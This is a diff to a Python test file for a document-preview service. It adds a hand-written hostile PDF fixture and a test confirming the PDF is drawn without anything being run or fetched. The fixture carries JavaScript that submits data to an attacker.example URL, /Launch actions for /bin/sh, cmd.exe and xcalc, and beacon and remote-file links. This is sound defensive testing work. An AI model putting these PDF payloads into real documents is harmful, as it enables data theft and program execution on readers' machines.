@@ -1,13 +1,18 @@
 """Previews of a version's files beside the criterion, and the hostile files each previews
 safely or says why not: a PDF with thousands of pages or a huge page, an encrypted or a broken
-PDF, a workbook with formulas and external links, a CSV with formula-like cells, an SVG with
-script, a zip bomb dressed as a workbook."""
+PDF, a PDF carrying JavaScript, a /Launch, links and remote files (drawn, nothing run or
+fetched), a workbook with formulas and external links, a CSV with formula-like cells, an SVG
+with script, a zip bomb dressed as a workbook."""
 
 from __future__ import annotations
 
 import hashlib
 import io
 import json
+import os
+import socket
+import subprocess
+import urllib.request
 import zipfile
 
 import openpyxl
@@ -162,6 +167,89 @@ def test_a_malformed_pdf_says_why(client, assessor, version, django_capture_on_c
 
     assert "No preview: The PDF could not be read" in page
     assert "Download broken.pdf" in page
+
+
+def _hostile_pdf() -> bytes:
+    """A one-page PDF written by hand, as an attacker would: JavaScript run on opening
+    (/OpenAction), a /Launch of a program, /URI links, a /GoToR to a remote file and a page
+    drawn from a remote file (/F with a URL); a valid cross-reference table."""
+    remote = b"<< /Type /Filespec /FS /URL /F (http://attacker.example/remote.pdf) >>"
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R"
+        b" /AA << /WC << /S /JavaScript /JS (app.launchURL('http://attacker.example/closed');) >> >>"
+        b" /Names << /JavaScript << /Names [(init) 4 0 R] >> >> >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R"
+        b" /Resources << /Font << /F1 6 0 R >> /XObject << /X1 10 0 R >> >> /Annots [7 0 R 8 0 R 9 0 R]"
+        b" /AA << /O << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >> >> >>",
+        b"<< /S /JavaScript /JS (this.submitForm('http://attacker.example/steal'); app.alert(1);) >>",
+        None,  # the content stream, below
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730]"
+        b" /A << /S /Launch /F (/usr/bin/xcalc) /NewWindow true >> >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [72 650 300 680]"
+        b" /A << /S /URI /URI (http://attacker.example/beacon) >> >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /A << /S /GoToR /F "
+        + remote
+        + b" /D [0 /Fit] >> >>",
+        # An external stream: its data is to come from a URL.
+        b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray"
+        b" /BitsPerComponent 8 /Length 0 /F " + remote + b" >>\nstream\n\nendstream",
+    ]
+    text = b"BT /F1 24 Tf 72 760 Td (Hostile but harmless) Tj ET"
+    objects[4] = b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream"
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return bytes(out)
+
+
+def test_a_pdf_with_javascript_launch_uri_and_remote_files_is_drawn_with_nothing_run_or_fetched(
+    client, assessor, version, django_capture_on_commit_callbacks, monkeypatch
+):
+    # Anything that would start a program or open a connection from Python is recorded (and
+    # refused); pytest-socket already blocks the network for the whole run.
+    attempts = []
+
+    def refuse(what):
+        def call(*args, **kwargs):
+            attempts.append((what, args))
+            raise AssertionError(f"{what} called while drawing a PDF")
+
+        return call
+
+    for module, name in (
+        (subprocess, "Popen"),
+        (os, "system"),
+        (os, "posix_spawn"),
+        (os, "execv"),
+        (socket, "create_connection"),
+        (socket.socket, "connect"),
+        (urllib.request, "urlopen"),
+    ):
+        monkeypatch.setattr(module, name, refuse(f"{getattr(module, '__name__', module)}.{name}"))
+    data = _hostile_pdf()
+    assert pikepdf.open(io.BytesIO(data)).Root.OpenAction.S == "/JavaScript"  # a PDF as written
+    stored = _stored(version, data, "hostile.pdf", "application/pdf")
+    client.force_login(assessor)
+
+    page = _drawn(client, stored, django_capture_on_commit_callbacks)
+    image = client.get(_page_url(stored, 1))
+
+    assert f'src="{_page_url(stored, 1)}"' in page
+    assert "No preview" not in page
+    assert image.status_code == 200
+    drawn = Image.open(io.BytesIO(b"".join(image.streaming_content)))
+    assert drawn.width == previews.PAGE_WIDTH_PX
+    assert drawn.convert("L").getextrema()[0] < 128  # the text was drawn: a dark pixel
+    assert attempts == []
+    assert "attacker.example" not in page
 
 
 # --- Spreadsheets ------------------------------------------------------------------------------------
